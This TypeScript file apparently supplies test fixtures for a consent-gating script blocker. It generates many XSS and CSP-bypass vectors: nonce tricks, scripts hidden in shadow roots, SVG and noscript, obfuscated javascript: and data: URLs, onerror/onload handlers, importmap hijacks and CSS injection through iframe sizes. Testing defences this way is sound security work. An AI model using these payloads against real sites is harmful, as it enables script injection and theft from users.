// What somebody may try who can put markup into a page, but no script. Each vector writes its number into `window.ran` if
// it runs, and asks the server for `/evil…` if it loads anything.

/** What a vector is made of: its number, the address of its script, and its script. */
export interface Payload {
  /** Notes the vector's number. */
  readonly code: string;
  /** A script that does the same, on a host that the page's owner has not named. */
  readonly evil: string;
  /** A script on a host that the owner has named. */
  readonly named: string;
}

export interface Vector {
  readonly title: string;
  /** It is one for sanitisers that let `data-*` through, and so also for pages without a CSP. */
  readonly withoutPolicy: boolean;
  markup(payload: Payload): string;
}

type Markup = Vector["markup"];

const vectors: Vector[] = [];
const add = (title: string, markup: Markup, withoutPolicy = false) =>
  void vectors.push({ title, markup, withoutPolicy });

export function escaped(value: string): string {
  return value.replaceAll("&", "&amp;").replaceAll('"', "&quot;").replaceAll("<", "&lt;");
}

const template = (content: string, ids = "analytics") =>
  `<template data-consent="${ids}">${content}</template>`;

// Scripts without the page's nonce, on a host that is not named, by each way into the gate.
const nonces = {
  "no nonce": "",
  "an empty nonce": 'nonce=""',
  "a wrong nonce": 'nonce="bad"',
  "the nonce in another case": 'nonce="GOOD"',
  "the nonce and a space": 'nonce="good "',
  "two nonces": 'nonce="bad good"',
  "a nonce in data-nonce": 'data-nonce="good"',
};
const scripts: Record<string, (nonce: string, payload: Payload) => string> = {
  external: (nonce, { evil }) => `<script ${nonce} src="${evil}"></script>`,
  inline: (nonce, { code }) => `<script ${nonce}>${code}</script>`,
  "external module": (nonce, { evil }) => `<script type="module" ${nonce} src="${evil}"></script>`,
  "inline module": (nonce, { code }) => `<script type="module" ${nonce}>${code}</script>`,
  "async external": (nonce, { evil }) => `<script async ${nonce} src="${evil}"></script>`,
};
for (const [nonce, attribute] of Object.entries(nonces)) {
  for (const [kind, script] of Object.entries(scripts))
    add(`${kind} script with ${nonce}`, (payload) => template(script(attribute, payload)));
  const plain = `<script type="text/plain" data-consent="analytics" ${attribute}`;
  add(`plain src with ${nonce}`, ({ evil }) => `${plain} src="${evil}"></script>`);
  add(`plain data-src with ${nonce}`, ({ evil }) => `${plain} data-src="${evil}"></script>`);
  add(`plain inline with ${nonce}`, ({ code }) => `${plain}>${code}</script>`);
}

// Ids that would be granted if markup could say so.
for (const ids of [
  "necessary",
  "necessary analytics",
  "analytics necessary",
  "necessary/tally",
  " necessary ",
]) {
  for (const nonce of ["", 'nonce="good"']) {
    const plain = `<script type="text/plain" data-consent="${ids}" ${nonce}`;
    add(
      `template "${ids}" ${nonce}`,
      ({ evil }) => template(`<script ${nonce} src="${evil}"></script>`, ids),
      true,
    );
    add(`plain script "${ids}" ${nonce}`, ({ evil }) => `${plain} src="${evil}"></script>`, true);
  }
}

// Where a gate may not look for scripts.
const places: Record<string, (script: string) => string> = {
  "an open shadow root": (script) => `<div><template shadowrootmode="open">${script}</template></div>`,
  "a closed shadow root": (script) => `<div><template shadowrootmode="closed">${script}</template></div>`,
  "a clonable shadow root": (script) =>
    `<p><template shadowrootmode="closed" shadowrootclonable shadowrootserializable>${script}</template></p>`,
  "a shadow root in a shadow root": (script) =>
    `<section><template shadowrootmode="closed"><div><template shadowrootmode="closed">${script}</template></div></template></section>`,
  "a shadow root of a custom element": (script) =>
    `<x-evil><template shadowrootmode="closed">${script}</template></x-evil>`,
  "a shadow root within a slot": (script) =>
    `<div><template shadowrootmode="open"><slot></slot></template><span><template shadowrootmode="open">${script}</template></span></div>`,
  "a template in the template": (script) => `<template data-consent="functional">${script}</template>`,
  "a bare template in the template": (script) => `<template>${script}</template>`,
  SVG: (script) => `<svg>${script}</svg>`,
  "a foreign object": (script) => `<svg><foreignObject><div>${script}</div></foreignObject></svg>`,
  MathML: (script) => `<math><mtext>${script}</mtext></math>`,
  noscript: (script) => `<noscript>${script}</noscript>`,
  "a noscript that ends early": (script) => `<noscript><p title="</noscript>${escaped(script)}"></noscript>`,
  "a table": (script) => `<table><tbody><tr><td>${script}</td></tr></tbody></table>`,
  "an object": (script) => `<object>${script}</object>`,
  "a video": (script) => `<video>${script}</video>`,
  "a select": (script) => `<select><option>${script}</option></select>`,
  "a custom element": (script) => `<x-light>${script}</x-light>`,
  "an iframe's srcdoc": (script) => `<iframe srcdoc="${escaped(script)}"></iframe>`,
  "a sandboxed iframe's srcdoc": (script) =>
    `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="${escaped(script)}"></iframe>`,
};
for (const [place, around] of Object.entries(places)) {
  add(`an external script in ${place}`, ({ evil }) => template(around(`<script src="${evil}"></script>`)));
  add(`an inline script in ${place}`, ({ code }) => template(around(`<script>parent.eval;${code}</script>`)));
}

// SVG's scripts load by `href`, whatever else they say.
for (const href of ["href", "xlink:href"]) {
  for (const said of ["", "src", "data-src"]) {
    for (const around of ["svg", "svg><g"]) {
      const script = ({ evil, named }: Payload) =>
        `<${around}><script ${href}="${evil}" ${said && `${said}="${named}"`}></script></${around.slice(0, 3)}>`;
      add(`<${around}> script by ${href} with "${said}"`, (payload) => template(script(payload)));
    }
    add(
      `plain SVG script by ${href} with "${said}"`,
      ({ evil, named }) =>
        `<svg><script type="text/plain" data-consent="analytics" ${href}="${evil}" ${said && `${said}="${named}"`}></script></svg>`,
    );
  }
}

// Addresses that are scripts.
const addresses: Record<string, (payload: Payload) => string> = {
  javascript: ({ code }) => `javascript:${code}`,
  "in capitals": ({ code }) => `JaVaScRiPt:${code}`,
  "after spaces": ({ code }) => `  javascript:${code}`,
  "after a control character": ({ code }) => `&#1;javascript:${code}`,
  "with a tab": ({ code }) => `java&Tab;script:${code}`,
  "with a line's end": ({ code }) => `java&NewLine;script&colon;${code}`,
  "in entities": ({ code }) => `&#106;&#x61;vascript&#58;${code}`,
  "for a whole line": ({ code }) => `javascript://%0a${code}`,
  "a data: script": ({ code }) => `data:text/javascript,${code}`,
  "a data: script in Base64": ({ code }) => `data:text/javascript;base64,${btoa(code)}`,
  "a data: page": ({ code }) => `data:text/html,&lt;script&gt;parent.postMessage(1);${code}&lt;/script&gt;`,
  "a blob": () => "blob:http://localhost/00000000-0000-0000-0000-000000000000",
  "a file system": () => "filesystem:http://localhost/temporary/x.js",
  vbscript: ({ code }) => `vbscript:${code}`,
  "a view of a source": ({ evil }) => `view-source:${evil}`,
};
for (const [kind, address] of Object.entries(addresses)) {
  add(
    `data-src, ${kind}`,
    (payload) =>
      `<script type="text/plain" data-consent="analytics" data-src="${address(payload)}"></script>`,
    true,
  );
  add(
    `src, ${kind}`,
    (payload) => `<script type="text/plain" data-consent="analytics" src="${address(payload)}"></script>`,
    true,
  );
  add(`an iframe, ${kind}`, (payload) => template(`<iframe src="${address(payload)}"></iframe>`));
  add(`an object, ${kind}`, (payload) => template(`<object data="${address(payload)}"></object>`));
  add(`an embed, ${kind}`, (payload) => template(`<embed src="${address(payload)}">`));
}

// Attributes that other tools turn into something.
for (const name of [
  "src",
  "srcdoc",
  "html",
  "onload",
  "href",
  "data",
  "script",
  "name",
  "template",
  "content",
]) {
  for (const element of ["iframe", "div", "object", "a"]) {
    const value = ({ code, evil }: Payload) =>
      /src$|data|href/.test(name)
        ? evil
        : name === "onload"
          ? code
          : escaped(`<img src=x onerror="${code}">`);
    add(
      `<${element} data-${name}>`,
      (payload) =>
        `<${element} data-consent="analytics" type="text/plain" data-${name}="${value(payload)}"></${element}>`,
      true,
    );
  }
}

// Handlers within what is granted.
for (const markup of [
  (code: string) => `<img src="x" onerror="${code}">`,
  (code: string) => `<svg onload="${code}"></svg>`,
  (code: string) => `<iframe onload="${code}"></iframe>`,
  (code: string) => `<details open ontoggle="${code}"><summary>x</summary>x</details>`,
  (code: string) => `<video src="x" onerror="${code}"></video>`,
  (code: string) => `<style onload="${code}"></style>`,
  (code: string) => `<input autofocus onfocus="${code}">`,
  (code: string) => `<x-y style="animation: x 1s" onanimationstart="${code}"></x-y>`,
])
  add(`a handler: ${markup("…")}`, ({ code }) => template(markup(code)));

// Things that load by themselves.
for (const markup of [
  (evil: string) => `<link rel="stylesheet" href="${evil}">`,
  (evil: string) => `<link rel="modulepreload" href="${evil}">`,
  (evil: string) => `<link rel="manifest" href="${evil}">`,
  (evil: string) => `<img src="${evil}">`,
  (evil: string) => `<img srcset="${evil} 2x">`,
  (evil: string) => `<video poster="${evil}"></video>`,
  (evil: string) => `<audio src="${evil}"></audio>`,
  (evil: string) => `<iframe src="${evil}"></iframe>`,
  (evil: string) => `<object data="${evil}"></object>`,
  (evil: string) => `<embed src="${evil}">`,
  (evil: string) => `<style>@import "${evil}"</style>`,
  (evil: string) => `<div style="background:url(${evil})">x</div>`,
])
  add(`it loads: ${markup("…")}`, ({ evil }) => template(markup(evil)));

// Types that change what other scripts are.
for (const type of ["importmap", "ImportMap", " importmap ", "speculationrules", "SPECULATIONRULES"]) {
  const text = ({ evil }: Payload) =>
    /import/i.test(type)
      ? `{"imports":{"x":"${evil}"}}`
      : `{"prefetch":[{"source":"list","urls":["${evil}"]}]}`;
  add(`type "${type}"`, (payload) => template(`<script type="${type}">${text(payload)}</script>`));
  add(
    `data-type "${type}"`,
    (payload) =>
      `<script type="text/plain" data-consent="analytics" data-type="${type}">${text(payload)}</script>`,
  );
}

// Sizes that would become more than sizes in the style of a room.
for (const size of [
  "100;background:url(EVIL)",
  "100px;background:url(EVIL)%",
  "100%;}*{background:url(EVIL)}",
  "1e400",
  "1e9",
  "calc(100px)",
  "100 url(EVIL)",
  "Infinity",
  "0x100",
  "100/**/;background:url(EVIL);/*%",
]) {
  for (const side of ["width", "height"]) {
    add(
      `a room whose ${side} is ${size}`,
      ({ evil }) =>
        template(
          `<iframe width="200" height="200" ${side}="${size.replaceAll("EVIL", evil)}"></iframe>`,
          "nonsense",
        ).replace(`${side}="200" `, ""),
      true,
    );
  }
}

// Our own elements and openers, written by somebody else.
for (const value of ["javascript:CODE", `"><img src=x onerror=CODE>`, "EVIL", "policy", "__proto__"]) {
  const filled = ({ code, evil }: Payload) =>
    escaped(value.replaceAll("CODE", code).replaceAll("EVIL", evil));
  add(
    `an opener of ${value}`,
    (payload) => `<button class="evil" data-consent-open="${filled(payload)}">x</button>`,
    true,
  );
  for (const name of ["layout", "theme", "language", "reopen", "frame"])
    add(
      `kotowari-placeholder with ${name} ${value}`,
      (payload) => `<kotowari-placeholder ${name}="${filled(payload)}"></kotowari-placeholder>`,
      true,
    );
}

/** All of them, in the order of their numbers. */
export const table: readonly Vector[] = vectors;
